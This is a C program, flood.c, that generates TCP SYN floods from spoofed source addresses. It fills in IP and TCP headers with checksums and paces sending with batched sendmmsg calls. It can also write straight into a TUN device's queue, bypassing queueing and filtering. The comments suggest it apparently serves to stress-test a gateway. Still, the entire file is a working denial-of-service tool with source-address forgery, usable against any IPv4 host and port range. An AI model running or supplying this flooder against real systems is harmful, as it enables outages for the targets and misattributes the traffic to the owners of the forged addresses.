/* flood.c - SYNs by the hundred thousand, from addresses that are not ours or from one that is.
 *   flood SOURCE/LEN TARGET FIRST-LAST PER_SECOND SECONDS [DEVICE]     a random source of the prefix, a random port of the range
 * Through the machine's routing; or, with the name of a TUN device, straight into its queue, as if they had been forwarded to it.
 * Where that is full they pause, so that the gateway is the limit and not its queue; what was missed is not made up for.
 * Ends with a line on its standard output: packets sent, of them refused because the queue was full, milliseconds of its CPU. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FULL_S 0.1  /* the pause */
#define LATE_S 0.02 /* what is later than that is not made up for */
enum { ROW = 64, SIZE = sizeof(struct iphdr) + sizeof(struct tcphdr) };

static uint64_t dice = 88172645463325252ull;

static uint32_t roll(void)
{
    dice ^= dice << 13;
    dice ^= dice >> 7;
    dice ^= dice << 17;
    return (uint32_t)(dice >> 16);
}

static double now_s(clockid_t clock)
{
    struct timespec ts;

    clock_gettime(clock, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Words in network order, folded. */
static uint16_t sum16(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;

    for (size_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)sum;
}

static void make_syn(uint8_t *at, uint32_t source, uint32_t target, uint16_t port)
{
    struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(SIZE) };
    struct tcphdr tcp = { .syn = 1, .doff = 5, .window = htons(65535) };

    ip.saddr = htonl(source);
    ip.daddr = htonl(target);
    ip.check = htons((uint16_t)~sum16(&ip, sizeof(ip), 0));
    tcp.source = htons((uint16_t)(1024 + roll() % 60000));
    tcp.dest = htons(port);
    tcp.seq = htonl(roll());
    tcp.check = htons((uint16_t)~sum16(&tcp, sizeof(tcp), sum16(&ip.saddr, 8, IPPROTO_TCP + sizeof(tcp))));
    memcpy(at, &ip, sizeof(ip));
    memcpy(at + sizeof(ip), &tcp, sizeof(tcp));
}

/* By the device: no queueing discipline, no routing, no filter between us and it. */
static int open_socket(const char *device, struct sockaddr_storage *to, socklen_t *to_len)
{
    struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
    int on = 1, fd;

    if (device == NULL)
        return socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    fd = socket(AF_PACKET, SOCK_DGRAM, 0);
    ll.sll_ifindex = (int)if_nametoindex(device);
    memcpy(to, &ll, sizeof(ll));
    *to_len = sizeof(ll);
    return ll.sll_ifindex > 0 && setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) == 0 ? fd
                                                                                                       : -1;
}

/* Return: of @n, those that found no room, nearly always the device's. */
static int send_all(int fd, struct mmsghdr *row, int n)
{
    int refused = 0;

    for (int done = 0; done < n;) {
        int r = sendmmsg(fd, row + done, (unsigned)(n - done), 0);

        refused += r <= 0;
        done += r > 0 ? r : 1;
    }
    return refused;
}

int main(int argc, char **argv)
{
    static uint8_t packets[ROW][SIZE];
    struct mmsghdr row[ROW] = { 0 };
    struct iovec iov[ROW];
    struct sockaddr_storage to = { 0 };
    struct sockaddr_in target = { .sin_family = AF_INET };
    socklen_t to_len = sizeof(target);
    struct in_addr source;
    char *slash = argc == 6 || argc == 7 ? strchr(argv[1], '/') : NULL;
    double rate, start = now_s(CLOCK_MONOTONIC), end;
    uint64_t sent = 0, refused = 0;
    int fd, first, last, bits;

    if (slash == NULL)
        return 2;
    *slash = 0;
    bits = 32 - atoi(slash + 1);
    if (inet_pton(AF_INET, argv[1], &source) != 1 || inet_pton(AF_INET, argv[2], &target.sin_addr) != 1 ||
        sscanf(argv[3], "%d-%d", &first, &last) != 2 || last < first)
        return 2;
    memcpy(&to, &target, sizeof(target));
    fd = open_socket(argv[6], &to, &to_len); /* argv ends with NULL */
    if (fd < 0)
        return 2;
    rate = atof(argv[4]);
    end = start + atof(argv[5]);
    for (int i = 0; i < ROW; i++) {
        iov[i] = (struct iovec){ packets[i], SIZE };
        row[i].msg_hdr =
            (struct msghdr){ .msg_name = &to, .msg_namelen = to_len, .msg_iov = &iov[i], .msg_iovlen = 1 };
    }
    for (double now = start, due = start; now < end; now = now_s(CLOCK_MONOTONIC)) {
        int full;

        if (now < due) {
            usleep(now < due - 0.001 ? 1000 : 200);
            continue;
        }
        for (int i = 0; i < ROW; i++) {
            uint32_t host = bits > 0 ? roll() & (uint32_t)((1ull << bits) - 1) : 0;

            make_syn(packets[i], ntohl(source.s_addr) + host, ntohl(target.sin_addr.s_addr),
                     (uint16_t)((uint32_t)first + roll() % (uint32_t)(last - first + 1)));
        }
        full = send_all(fd, row, ROW);
        sent += ROW;
        refused += (uint64_t)full;
        due = (now - due > LATE_S ? now - LATE_S : due) + ROW / rate;
        if (full > 0)
            due = now + FULL_S;
    }
    printf("%llu %llu %.0f\n", (unsigned long long)sent, (unsigned long long)refused,
           now_s(CLOCK_PROCESS_CPUTIME_ID) * 1e3);
    return 0;
}
